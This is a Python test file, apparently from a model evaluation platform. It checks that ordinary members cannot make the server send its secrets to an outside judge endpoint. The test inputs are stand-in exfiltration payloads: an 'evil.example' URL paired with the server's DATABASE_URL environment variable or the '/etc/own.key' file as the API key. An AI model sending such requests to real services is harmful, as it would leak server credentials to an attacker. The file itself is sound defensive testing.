"""A member can't have a secret of the engine's machine sent where they like."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from engine.playground.conversations import ConversationService
from store.core.errors import ForbiddenError, TunebenchError
from store.core.rights import OWNER
from store.core.schemas import Person
from store.evaluation import evaluation_pairs
from store.jobs import job_queue
from tests.unit.people_samples import Company

MEMBER = Person(person_id="p-mia", name="Mia", role="member")
EVIL = "https://evil.example/v1"


def _judge(base_url: str = EVIL, **keys: str) -> dict[str, Any]:
    return {"metric": "judge", "base_url": base_url, "model": "m", **(keys or {"key_env": "DATABASE_URL"})}


def _bodies(judge: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    talk = {key: value for key, value in judge.items() if key != "metric"}
    return [
        ("judge_requests", {"endpoint": "Bank", "judge": judge}),
        ("judge", {"first": "a", "second": "b", "judge": judge}),
        ("evaluate", {"run": "r", "metrics": ["chrf", judge]}),
        ("begin_conversation", {"title": "t", "models": [{"endpoint": talk}]}),
    ]


@pytest.mark.parametrize("keys", [{"key_env": "DATABASE_URL"}, {"key_file": "/etc/own.key"}])
def test_a_member_sends_no_key_to_a_new_address(company: Company, keys: dict[str, str]) -> None:
    for name, body in _bodies(_judge(**keys)):
        with pytest.raises(ForbiddenError, match=r"to https://evil\.example/v1") as caught:
            company(name, by=MEMBER, **body)
        assert caught.value.field == next(iter(keys))
    for name, body in _bodies(_judge(**keys))[:3]:  # an admin comes as far as to what is not there
        with pytest.raises(TunebenchError) as other:
            company(name, by=OWNER, **body)
        assert not isinstance(other.value, ForbiddenError), name


def test_a_file_is_sent_by_the_owner_of_the_machine_alone(company: Company) -> None:
    """An admin may be on another machine, and reads none of this one's files."""
    admin = Person(person_id="p-ada", name="Ada", role="admin")
    for name, body in _bodies(_judge(key_file="/etc/own.key")):
        with pytest.raises(ForbiddenError, match="the machine's owner"):
            company(name, by=admin, **body)
    for name, body in _bodies(_judge())[:3]:
        with pytest.raises(TunebenchError) as other:
            company(name, by=admin, **body)
        assert not isinstance(other.value, ForbiddenError), name


def test_nor_in_a_talk_that_is_not_kept(company: Company) -> None:
    launcher: Any = None  # nothing comes to be launched
    talking = ConversationService(company.database, launcher, company.home, ["cpu"])
    endpoint = {"base_url": EVIL, "model": "m", "key_env": "DATABASE_URL"}
    body = {"models": [{"endpoint": endpoint}], "messages": [{"role": "user", "content": "Hello"}]}
    with pytest.raises(ForbiddenError, match="DATABASE_URL"):
        asyncio.run(talking.generate(body, MEMBER))


def test_what_was_used_before_may_be_used_again_and_nothing_that_looks_like_it(company: Company) -> None:
    hidden = _judge("https://evil.example/v1", key_env="DATABASE_URL")
    asked = _judge("https://good.example/v1", key_env="JUDGE_KEY") | {"extra": {"judge": hidden}}
    with company.database.transaction() as tx:
        job_queue.insert(
            tx, job_queue.NewJob("judge-1", evaluation_pairs.KIND, "t", {"judge": asked}, company.now)
        )
    body = {"first": "a", "second": "b"}
    with pytest.raises(TunebenchError) as caught:
        company("judge", by=MEMBER, **body, judge=_judge("https://good.example/v1/", key_env="JUDGE_KEY"))
    assert not isinstance(caught.value, ForbiddenError)  # there are no such evaluations
    for judge in (hidden, _judge("https://good.example/v1", key_env="DATABASE_URL")):
        with pytest.raises(ForbiddenError):
            company("judge", by=MEMBER, **body, judge=judge)
    with pytest.raises(TunebenchError) as without:  # no key: nothing is sent
        company("judge", by=MEMBER, **body, judge={"base_url": EVIL, "model": "m"})
    assert not isinstance(without.value, ForbiddenError)
